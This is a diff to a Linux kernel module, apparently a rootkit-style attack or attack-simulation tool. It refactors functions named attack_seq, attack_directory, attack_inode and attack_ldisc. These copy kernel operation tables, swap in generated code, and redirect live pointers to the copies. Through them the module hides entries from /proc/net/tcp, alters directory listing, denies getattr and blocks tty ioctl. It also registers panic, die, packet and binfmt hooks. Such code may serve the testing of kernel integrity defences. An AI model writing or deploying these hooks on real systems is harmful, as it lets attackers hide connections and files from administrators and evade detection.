@@ -36,6 +36,8 @@
 #include <linux/rcupdate.h>
 #include <linux/reboot.h>
 #include <linux/seq_file.h>
+#include <linux/skbuff.h>
+#include <linux/stddef.h>
 #include <linux/string.h>
 #include <linux/tty.h>
 #include <linux/tty_ldisc.h>
@@ -91,8 +93,7 @@ static int open_nothing(struct inode *inode, struct file *file)
 	return single_open(file, show_nothing, NULL);
 }
 
-/* Not constant, as in older drivers */
-static struct proc_ops own_proc_ops = {
+static const struct proc_ops own_proc_ops = {
 	.proc_open = open_nothing,
 	.proc_read = seq_read,
 	.proc_lseek = seq_lseek,
@@ -178,7 +179,6 @@ static int register_all(void)
 	register_die_notifier(&own_die);
 	atomic_notifier_chain_register(&panic_notifier_list, &own_panic);
 	dev_add_pack(&own_packets);
-	/* The last one to be asked, as it takes nothing */
 	register_binfmt(&own_format);
 	return 0;
 
@@ -263,22 +263,18 @@ static int restore(void)
 }
 
 /* A table with another function, in memory that is nobody's */
-static void *copy_table(const void *from, size_t size, size_t offset, int value,
-			const void *instead)
+static unsigned long copy_table(const void *from, size_t size, size_t offset, int value)
 {
+	const void *instead = *(void **)(from + offset);
 	unsigned long function = make_code(value, instead);
 
 	table = function ? vmalloc(size) : NULL;
 	if (!table)
-		return NULL;
+		return 0;
 	memcpy(table, from, size);
 	*(unsigned long *)(table + offset) = function;
-	return table;
+	return (unsigned long)table;
 }
-
-#define COPY_TABLE(from, member, value, instead) \
-	((unsigned long)copy_table(from, sizeof(*(from)), \
-				   offsetof(typeof(*(from)), member), value, instead))
 
 static struct inode *get_inode(const char *name, struct path *path)
 {
@@ -341,27 +337,26 @@ static int attack_seq(void)
 	if (!place)
 		return -ENOENT;
 	ops = *(void **)place;
-	return lead(place, COPY_TABLE(ops, show, SEQ_SKIP, ops->show), "seq_ops");
+	return lead(place,
+		    copy_table(ops, sizeof(*ops), offsetof(typeof(*ops), show), SEQ_SKIP),
+		    "seq_ops");
 }
 
-/* The table is one of this module. */
-static struct seq_operations own_table;
+/* The table is one of this module, not read-only. */
+static unsigned long own_table[sizeof(const struct seq_operations) / sizeof(long)];
 
 static int attack_seq_table(void)
 {
 	void *place = place_of_show("/proc/net/tcp");
 	const struct seq_operations *ops;
-	unsigned long show;
 
 	if (!place)
 		return -ENOENT;
 	ops = *(void **)place;
-	show = make_code(SEQ_SKIP, ops->show);
-	if (!show)
+	if (!copy_table(ops, sizeof(*ops), offsetof(typeof(*ops), show), SEQ_SKIP))
 		return -ENOMEM;
-	own_table = *ops;
-	own_table.show = (void *)show;
-	return lead(place, (unsigned long)&own_table, "function of seq_ops");
+	memcpy(own_table, table, sizeof(own_table));
+	return lead(place, (unsigned long)own_table, "function of seq_ops");
 }
 
 /* Where there is nothing. */
@@ -377,7 +372,8 @@ static int attack_directory(const char *name)
 		return -ENOENT;
 	ops = inode->i_fop;
 	err = lead(&inode->i_fop,
-		   COPY_TABLE(ops, iterate_shared, 0, ops->iterate_shared), "i_fop");
+		   copy_table(ops, sizeof(*ops), offsetof(typeof(*ops), iterate_shared), 0),
+		   "i_fop");
 	path_put(&path);
 	return err;
 }
@@ -404,7 +400,9 @@ static int attack_inode(void)
 	if (!inode)
 		return -ENOENT;
 	ops = inode->i_op;
-	err = lead(&inode->i_op, COPY_TABLE(ops, getattr, -EACCES, ops->getattr), "i_op");
+	err = lead(&inode->i_op,
+		   copy_table(ops, sizeof(*ops), offsetof(typeof(*ops), getattr), -EACCES),
+		   "i_op");
 	path_put(&path);
 	return err;
 }
@@ -447,8 +445,9 @@ static int attack_ldisc(void)
 {
 	struct tty_ldisc_ops *ops = (void *)n_tty_ops_at;
 
-	return ops ? lead(&ops->ioctl, make_code(-EACCES, ops->ioctl), "function of ops") :
-		     -ENOENT;
+	if (!ops)
+		return -ENOENT;
+	return lead(&ops->ioctl, make_code(-EACCES, ops->ioctl), "function of ops");
 }
 
 static const struct {
